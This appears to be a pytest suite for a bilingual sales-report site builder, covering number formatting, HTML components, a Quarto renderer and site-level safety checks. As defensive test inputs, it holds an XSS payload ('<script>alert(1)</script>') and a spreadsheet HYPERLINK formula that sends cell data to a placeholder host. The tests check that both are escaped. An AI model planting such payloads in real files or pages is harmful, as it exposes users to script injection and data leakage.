"""The packs' words, numbers and building blocks, the built-in renderer, and the published site's promises.

Formatting and components are checked on hand-made values worked out on paper. The site-level promises
(every pack for the company and every region in both languages, the index, a region's pack holds only
its region, names are text, nothing is fetched from the internet, no phone number) are checked on the
session's small built company (tests/conftest.py), rendered once into a site.
"""

from __future__ import annotations

import re
import shutil
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import altair as alt
import duckdb
import pandas as pd
import pytest
import yaml

from reports import components, i18n, renderer
from reports.context import Audience, PackContext, Period

# ---------------------------------------------------------------- words and numbers


@pytest.mark.parametrize(
    ("yuan", "expected"),
    [
        (Decimal("647345.67"), "64.73"),  # 64.734567 万
        (Decimal("12350"), "1.24"),  # 1.235 万: half-up (binary floats would give 1.23)
        (Decimal("-30000"), "-3.00"),  # over-achievement: a negative gap
        (Decimal("-0.4"), "0.00"),  # rounds to zero: no "-0.00"
        (None, "—"),
    ],
)
def test_a_group_below_100_wan_shows_two_decimals(yuan, expected) -> None:
    scale = i18n.money_scale([Decimal("750000"), yuan], "zh-CN")
    assert (scale.unit, scale.number(yuan)) == ("万元", expected)


def test_money_scales_in_both_languages() -> None:
    assert i18n.money_scale([Decimal("1000000"), None], "zh-CN").number(Decimal("12345678.90")) == "1,234.6"
    english_millions = i18n.money_scale([Decimal("3647700"), Decimal("2692413")], "en")
    assert (english_millions.unit, english_millions.number(Decimal("2692413"))) == ("CNY M", "2.69")
    english_thousands = i18n.money_scale([Decimal("955287")], "en")
    assert (english_thousands.unit, english_thousands.number(Decimal("955287"))) == ("CNY k", "955.3")
    # in sentences: one decimal from 10 万 on, the unit written out
    assert i18n.money(Decimal("955287"), "zh-CN") == "95.5 万元"
    assert i18n.money(Decimal("95528"), "zh-CN") == "9.55 万元"
    assert i18n.money(Decimal("955287"), "en") == "CNY 955.3k"
    assert i18n.money(Decimal("1899981"), "en") == "CNY 1.90M"


def test_rates_dates_regions_and_lists() -> None:
    assert i18n.rate(0.7381125) == "73.8%" and i18n.rate(None) == "—"
    assert i18n.signed_rate_points(0.042, "zh-CN") == "+4.2 个百分点"
    assert i18n.signed_rate_points(-0.1003, "en") == "-10.0 pts"
    assert i18n.date_range(date(2026, 11, 16), date(2026, 11, 22), "zh-CN") == "2026年11月16日至11月22日"
    assert i18n.date_range(date(2026, 11, 16), date(2026, 11, 22), "en") == "16 Nov – 22 Nov 2026"
    assert (i18n.region_name("华东", "en"), i18n.region_name("华东", "zh-CN"), i18n.region_slug("华东")) == (
        "East China",
        "华东",
        "east",
    )
    assert i18n.region_slug("海外") == "r-" + "海外".encode().hex()
    assert i18n.join(["甲", "乙", "丙"], "zh-CN") == "甲、乙和丙"
    assert i18n.join(["A", "B", "C"], "en") == "A, B and C"
    assert i18n.t("region_pack", "en", region="East China") == "East China region"
    with pytest.raises(ValueError, match="unknown language"):
        i18n.t("company", "fr")


def test_periods() -> None:
    week = Period.week(date(2026, 11, 16))
    assert (week.label, week.end, week.previous().label, week.next().label) == (
        "2026-W47",
        date(2026, 11, 22),
        "2026-W46",
        "2026-W48",
    )
    quarter = Period.quarter(date(2026, 8, 15))
    assert (quarter.label, quarter.start, quarter.end) == ("2026-Q3", date(2026, 7, 1), date(2026, 9, 30))
    assert (quarter.previous().label, quarter.next().label, quarter.year_before().label) == (
        "2026-Q2",
        "2026-Q4",
        "2025-Q3",
    )
    assert Period.quarter(date(2026, 12, 31)).next().label == "2027-Q1"
    assert renderer.latest_complete_quarter(date(2026, 11, 22)).label == "2026-Q3"
    assert renderer.latest_complete_quarter(date(2026, 9, 30)).label == "2026-Q3"


# ---------------------------------------------------------------- components


@pytest.fixture
def ctx(tmp_path) -> PackContext:
    con = duckdb.connect()
    yield PackContext(
        con=con,
        period=Period.week(date(2026, 11, 16)),
        audience=Audience("华东"),
        lang="en",
        as_of=date(2026, 11, 22),
        tables_dir=tmp_path / "east.en",
        tables_href="east.en",
    )
    con.close()


def test_a_table_escapes_names_keeps_exact_money_and_offers_downloads(ctx, tmp_path) -> None:
    rows = [
        {"name": "<script>alert(1)</script>", "amount": Decimal("1234567.89"), "rate": 0.5, "light": "red"},
        {
            "name": '=HYPERLINK("http://x/?"&A2,"click")',
            "amount": Decimal("-30000"),
            "rate": None,
            "light": None,
        },
    ]
    columns = [
        components.Column("name", "Customer"),
        components.Column("amount", "Amount", "money"),
        components.Column("rate", "Attainment", "rate"),
        components.Column("light", "Status", "light"),
    ]
    page = components.table(ctx, "customers", columns, rows, caption="Top customers", row_key="name")

    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert '<th class="num">Amount (CNY M)</th>' in page
    assert '<td class="num" data-value="1234567.89">1.23</td>' in page
    assert '<td class="num" data-value="-30000">-0.03</td>' in page
    assert '<td class="num" data-value="">—</td>' in page
    assert "Behind" in page and "No target" in page
    assert 'href="east.en/customers.csv"' in page and 'href="east.en/customers.xlsx"' in page
    csv_text = (tmp_path / "east.en" / "customers.csv").read_text(encoding="utf-8-sig")
    assert csv_text.splitlines() == [
        "Customer,Amount (CNY),Attainment,Status",
        "<script>alert(1)</script>,1234567.89,0.5,Behind",
        '"\'=HYPERLINK(""http://x/?""&A2,""click"")",-30000,,No target',
    ]


def test_an_empty_table_says_so(ctx) -> None:
    page = components.table(ctx, "nothing", [components.Column("x", "X")], [])
    assert page == '<p class="srw-empty" data-table="nothing">Nothing to show for this period.</p>'


def test_kpi_cards_compare_with_the_previous_period(ctx) -> None:
    cards = components.kpi_cards(
        ctx,
        [
            components.Kpi(
                "actual", "Actual", Decimal("2692413"), "money", Decimal("6363973"), "vs last week"
            ),
            components.Kpi(
                "gap",
                "Gap",
                Decimal("955287"),
                "money",
                Decimal("0.01"),
                "vs last week",
                higher_is_better=False,
            ),
            components.Kpi("rate", "Attainment", 0.738, "rate", 0.801, "vs last week", (0.7, 0.8, 0.738)),
            components.Kpi(
                "target",
                "Target",
                Decimal("3647700"),
                "money",
                Decimal("3654600"),
                "vs last week",
                higher_is_better=None,
            ),
        ],
    )
    assert 'data-kpi="actual" data-value="2692413"' in cards
    assert '<div class="kpi-value">2.69<span class="unit">CNY M</span></div>' in cards
    # (2692413 - 6363973) / 6363973 = -57.69%: down, and lower actuals are bad
    assert '<div class="kpi-compare bad">vs last week ▼ -57.7%</div>' in cards
    assert '<div class="kpi-compare bad">vs last week ▲ +9552869900.0%</div>' in cards  # a gap that grew
    assert '<div class="kpi-compare bad">vs last week ▼ -6.3 pts</div>' in cards  # 73.8% - 80.1%
    assert '<div class="kpi-compare flat">vs last week ▼ -0.2%</div>' in cards  # a target is not good or bad
    assert cards.count('<svg class="sparkline"') == 1


def test_a_chart_is_inline_svg_without_urls() -> None:
    frame = pd.DataFrame({"week": ["W1", "W2"], "value": [1.0, 2.0]})
    figure = components.chart(alt.Chart(frame).mark_line().encode(x="week:O", y="value:Q"), "A line")
    assert figure.startswith('<figure class="srw-chart" role="img" aria-label="A line"><svg')
    assert "http" not in figure and "<script" not in figure


def test_a_section_prints_a_heading_quarto_sees_and_a_raw_html_block(capsys) -> None:
    components.section("results", "成果", ["本周成交 19 单。"], "<p>body</p>")
    printed = capsys.readouterr().out
    assert printed == (
        "## 成果 {#results}\n\n```{=html}\n"
        '<div class="srw-section" data-section="results"><div class="srw-finding" role="note">'
        "<p>本周成交 19 单。</p></div><p>body</p></div>\n```\n\n"
    )


# ---------------------------------------------------------------- the built-in renderer

QMD = """---
title: "T"
---

Intro **text**.

```{python}
#| tags: [parameters]
who = "nobody"
```

```{python}
#| label: greet
#| output: asis
print("## Hello {#hello}")
print("```{=html}\\n<p class=x>" + who + "</p>\\n```")
```

```{python}
#| label: boom
#| output: asis
raise ValueError("no such mart")
```
"""


def test_read_qmd_keeps_markdown_chunks_and_their_options() -> None:
    front, blocks = renderer.read_qmd(QMD)
    assert front == {"title": "T"}
    assert [(b.kind, b.line, b.options.get("label")) for b in blocks] == [
        ("markdown", 5, None),
        ("code", 8, None),  # a chunk's line is its first source line
        ("code", 13, "greet"),
        ("code", 20, "boom"),
    ]
    assert blocks[1].options == {"tags": ["parameters"]}


def test_execute_injects_parameters_and_names_the_failing_chunk(tmp_path) -> None:
    qmd = tmp_path / "doc.qmd"
    qmd.write_text(QMD.split("```{python}\n#| label: boom")[0], encoding="utf-8")
    _, markdown = renderer.execute(qmd, {"who": "张伟"})
    page = renderer.markdown_to_html(markdown)
    assert "<p>Intro <strong>text</strong>.</p>" in page
    assert '<h2 id="hello">Hello</h2>' in page
    assert "<p class=x>张伟</p>" in page
    qmd.write_text(QMD, encoding="utf-8")
    with pytest.raises(
        renderer.RenderError, match=r"doc\.qmd: chunk 'boom' at line 20 raised ValueError: no such mart"
    ):
        renderer.execute(qmd, {})


def test_the_page_shell_loads_nothing_from_the_internet() -> None:
    page = renderer.page_html(body='<h2 id="a">A</h2>', title="T", site_title="S", root="../../", lang="en")
    assert '<link rel="stylesheet" href="../../styles.css">' in page
    assert "<script" not in page and "http" not in page
    assert '<nav class="srw-toc" aria-label="Contents"><ol><li><a href="#a">A</a></li></ol></nav>' in page


def test_quarto_command_line_and_staging_project(tmp_path: Path) -> None:
    args = renderer.quarto_args(
        "quarto", Path("/p/weekly/2026-W47/east.en.qmd"), {"region": "华东", "period_start": ""}, "T", "en"
    )
    assert args == [
        "quarto", "render", "/p/weekly/2026-W47/east.en.qmd", "--to", "html",
        "-P", "region:华东", "-M", "title:T", "-M", "pagetitle:T", "-M", "lang:en",
    ]  # fmt: skip
    page = renderer.Page("weekly_pack.qmd", {}, Path("weekly/2026-W47/east.en.html"), "T", "en")
    project = renderer.quarto_project(renderer.REPORTS_DIR, tmp_path, [page])
    copied = project / "weekly" / "2026-W47" / "east.en.qmd"
    assert copied.read_text(encoding="utf-8") == (renderer.REPORTS_DIR / "weekly_pack.qmd").read_text(
        encoding="utf-8"
    )
    config = yaml.safe_load((project / "_quarto.yml").read_text(encoding="utf-8"))
    assert config["project"]["render"] == ["weekly/2026-W47/east.en.qmd"]
    html_format = config["format"]["html"]
    assert html_format["theme"] == "default", "Bootswatch themes load a Google web font"
    assert html_format["page-layout"] == "full"


# ---------------------------------------------------------------- the published site (built company)


class _Cells(HTMLParser):
    """The text of every table cell, and every URL the page would load."""

    def __init__(self) -> None:
        super().__init__()
        self.cells: list[str] = []
        self.loads: list[str] = []
        self._cell: list[str] | None = None

    def handle_starttag(self, tag, attrs) -> None:
        values = dict(attrs)
        if tag == "td":
            self._cell = []
        for name in ("src", "href") if tag in ("script", "img", "link", "iframe", "source") else ("src",):
            if values.get(name):
                self.loads.append(values[name])

    def handle_endtag(self, tag) -> None:
        if tag == "td" and self._cell is not None:
            self.cells.append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data) -> None:
        if self._cell is not None:
            self._cell.append(data)


def _parsed(page: str) -> _Cells:
    parser = _Cells()
    parser.feed(page)
    return parser


@pytest.fixture(scope="module")
def site(built_company, tmp_path_factory) -> tuple[Path, Path]:
    """The built company's site, rendered again from a copy of its warehouse in which one customer is
    called <script>alert(1)</script> (in every mart that names customers)."""
    root, _, _ = built_company
    work = tmp_path_factory.mktemp("site")
    warehouse = work / "warehouse.duckdb"
    shutil.copyfile(root / "warehouse.duckdb", warehouse)
    con = duckdb.connect(str(warehouse))
    (customer,) = con.execute(
        "select customer_id from marts.dim_customers order by sales_amount desc nulls last limit 1"
    ).fetchone()
    for schema, table in con.execute(
        "select table_schema, table_name from information_schema.columns where column_name = 'customer_name' "
        "and table_schema = 'marts'"
    ).fetchall():
        con.execute(
            f"update {schema}.{table} set customer_name = '<script>alert(1)</script>' where customer_id = ?",
            [customer],
        )
    con.close()
    renderer.render_site(warehouse, work / "site")
    return warehouse, work / "site"


def _pages(site_dir: Path) -> list[Path]:
    return sorted(site_dir.rglob("*.html"))


def test_every_pack_is_rendered_and_linked_in_both_languages(site) -> None:
    warehouse, site_dir = site
    con = duckdb.connect(str(warehouse), read_only=True)
    sql = "select distinct region from marts.dim_reps where region is not null"
    regions = [r for (r,) in con.execute(sql).fetchall()]
    con.close()
    assert len(regions) == 2, "the built company has two regions"
    index = (site_dir / "index.html").read_text(encoding="utf-8")
    for folder in ("weekly/2026-W46", "quarterly/2026-Q3"):
        for slug in ["company", *(i18n.region_slug(r) for r in regions)]:
            zh, en = (site_dir / folder / f"{slug}.{lang}.html" for lang in ("zh-CN", "en"))
            assert (
                f'href="{folder}/{slug}.zh-CN.html"' in index and f'href="{folder}/{slug}.en.html"' in index
            )
            assert f'href="{slug}.en.html"' in zh.read_text(encoding="utf-8"), "the zh pack links its en twin"
            assert f'href="{slug}.zh-CN.html"' in en.read_text(encoding="utf-8")
    weekly = (site_dir / "weekly" / "2026-W46" / "company.en.html").read_text(encoding="utf-8")
    for anchor in ("targets", "results", "problems", "quality", "plan"):
        assert f'<h2 id="{anchor}">' in weekly, anchor


def test_no_page_loads_anything_from_the_internet_or_runs_a_script(site) -> None:
    _, site_dir = site
    for page in _pages(site_dir):
        text = page.read_text(encoding="utf-8")
        parsed = _parsed(text)
        assert not [url for url in parsed.loads if re.match(r"(https?:)?//", url)], page
        assert not re.search(r"url\(\s*['\"]?(https?:)?//|@import", text), page
        assert "<script" not in text, page
        assert not re.search(r"https?://", text), page  # no URL at all, not even a namespace


def test_a_customer_named_like_a_script_shows_as_text(site) -> None:
    _, site_dir = site
    shown = [
        p
        for p in _pages(site_dir)
        if "&lt;script&gt;alert(1)&lt;/script&gt;" in p.read_text(encoding="utf-8")
    ]
    assert shown, "the customer appears in at least one pack"


def test_no_pack_shows_a_mobile_number(site) -> None:
    _, site_dir = site
    for page in _pages(site_dir):
        assert not re.search(r"(?<!\d)1[3-9]\d{9}(?!\d)", page.read_text(encoding="utf-8")), page
    for table in site_dir.rglob("*.csv"):
        assert not re.search(r"(?<!\d)1[3-9]\d{9}(?!\d)", table.read_text(encoding="utf-8-sig")), table


def test_a_region_pack_holds_only_its_own_reps_customers_and_invoices(site) -> None:
    warehouse, site_dir = site
    con = duckdb.connect(str(warehouse), read_only=True)
    names: dict[str, set[str]] = {}
    for sql in (
        "select region, rep_name from marts.dim_reps",
        "select region, customer_name from marts.dim_customers",
        "select region, invoice_id from marts.fct_ar_invoice_snapshots",
        "select region, customer_name from marts.fct_ar_invoice_snapshots",
    ):
        for region, name in con.execute(sql).fetchall():
            names.setdefault(region, set()).add(name)
    con.close()
    for region, own in names.items():
        if region is None:
            continue
        others = set().union(*(n for r, n in names.items() if r not in (region, None))) - own
        for page in (site_dir / "weekly").glob(f"*/{i18n.region_slug(region)}.*.html"):
            cells = set(_parsed(page.read_text(encoding="utf-8")).cells)
            assert not cells & others, (page, sorted(cells & others)[:5])
        for page in (site_dir / "quarterly").glob(f"*/{i18n.region_slug(region)}.*.html"):
            cells = set(_parsed(page.read_text(encoding="utf-8")).cells)
            assert not cells & others, (page, sorted(cells & others)[:5])


def test_a_failing_document_leaves_the_site_as_it_was(site, tmp_path) -> None:
    warehouse, site_dir = site
    before = {p: p.read_bytes() for p in site_dir.rglob("*") if p.is_file()}
    broken = tmp_path / "broken.duckdb"
    shutil.copyfile(warehouse, broken)
    con = duckdb.connect(str(broken))
    con.execute("alter table marts.fct_attainment_periods drop column lag_warning")
    con.close()
    with pytest.raises(renderer.RenderError, match=r"weekly_pack\.qmd: chunk 'targets' at line \d+ raised"):
        renderer.render_site(broken, site_dir)
    assert {p: p.read_bytes() for p in site_dir.rglob("*") if p.is_file()} == before
    assert not list(site_dir.parent.glob(".site-render-*")), "staging directory left behind"
